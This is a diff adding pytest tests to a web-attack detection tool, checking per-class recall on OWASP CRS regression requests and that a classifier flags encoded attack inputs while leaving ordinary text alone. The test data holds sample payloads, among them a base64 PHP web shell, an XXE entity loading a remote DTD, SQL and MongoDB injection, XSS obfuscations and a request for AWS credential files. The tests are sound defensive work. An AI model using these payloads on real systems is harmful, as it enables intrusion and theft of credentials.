@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from garrison.evaluate.suites import csic, httpparams
 from garrison.model import RawRecord
 from tests.conftest import DATA
@@ -40,3 +42,52 @@ def test_detections_from_access_logs_through_the_pipeline(tmp_path):
         assert d.level == ("medium" if d.event["http.response.status_code"] >= 400 else "high")
     from garrison.detect.detectors.web import level_for
     assert level_for(200) == level_for(None) == "high" and level_for(404) == "medium"
+
+
+def test_crs_regression_tests_per_class():
+    """OWASP CRS's regression requests: detection per class, and the near-misses CRS's authors call benign.
+    The floors are the figures reached, so a change that loses detections fails here (issue 4's targets are
+    higher; the closing note explains the gap)."""
+    from garrison.evaluate.suites import crs
+
+    rows = {r.cls: r for r in crs(DATA)}
+    floors = {"lfi": 0.95, "xss": 0.90, "java": 0.90, "php": 0.75, "sqli": 0.68, "rce": 0.53, "rfi": 0.60}
+    for cls, floor in floors.items():
+        assert rows[cls].positives > 30 and rows[cls].recall >= floor, rows[cls]
+    for cls in ("sqli", "xss", "rce", "php"):
+        benign = rows[f"{cls}: near-misses described as benign"]
+        assert benign.negatives > 40 and benign.fp_rate <= 0.10, benign
+
+
+@pytest.mark.parametrize("parts, cls", [
+    ({"body": "test=cHJvY2Vzc2J1aWxkZXI"}, "java"),  # base64 of 'processbuilder', cut out of a longer encoding
+    ({"cookie": "x=PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="}, "php"),  # base64 of a PHP web shell
+    ({"h:x-filename": "shell.php5..."}, "php"),  # a script uploaded under a disguised name
+    ({"h:x-file-name": "cmd.jspx"}, "java"),
+    ({"body": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://203.0.113.9/x.dtd">%x;]><r/>'}, "xss"),
+    ({"body": "message=hello%0d%0aRCPT TO:<victim@example.org>"}, "rce"),  # SMTP injection through a contact form
+    ({"query": "f=FOR /F \"delims=\" %G IN ('SET') DO @Echo %G"}, "rce"),
+    ({"query": "u_id[$ne]=2"}, "sqli"),  # MongoDB operator injection
+    ({"query": "id=password::int"}, "sqli"),
+    ({"query": "id=1 AND group_concat(table_name)"}, "sqli"),
+    ({"body": "a=ja&Tab;vascript:alert(1)"}, "xss"),
+    ({"body": "a=document/*x*/./*y*/cookie"}, "xss"),
+    ({"query": "page=/.aws/credentials"}, "lfi"),
+    ({"query": "x=jar:http://203.0.113.9/b.zip!/a"}, "rfi"),
+])
+def test_encoded_and_less_common_attacks(parts, cls):
+    from garrison.detect.detectors.web import classify
+
+    assert cls in {f.cls for f in classify(parts)}
+
+
+@pytest.mark.parametrize("text", [
+    "payload=Left (WA, RR), following wood edge", "climbing to an altitude of convert (0.46 miles) before",
+    "Werke von Haßelt (1599)", 'arg=Die "Union von Europa"', "note=Go to store.\nAt the store, shop.",
+    'xml=<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>', "name=Del Barrio&city=Madrid",
+    "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+])
+def test_ordinary_text_stays_quiet(text):
+    from garrison.detect.detectors.web import classify
+
+    assert classify({"body": text}) == []
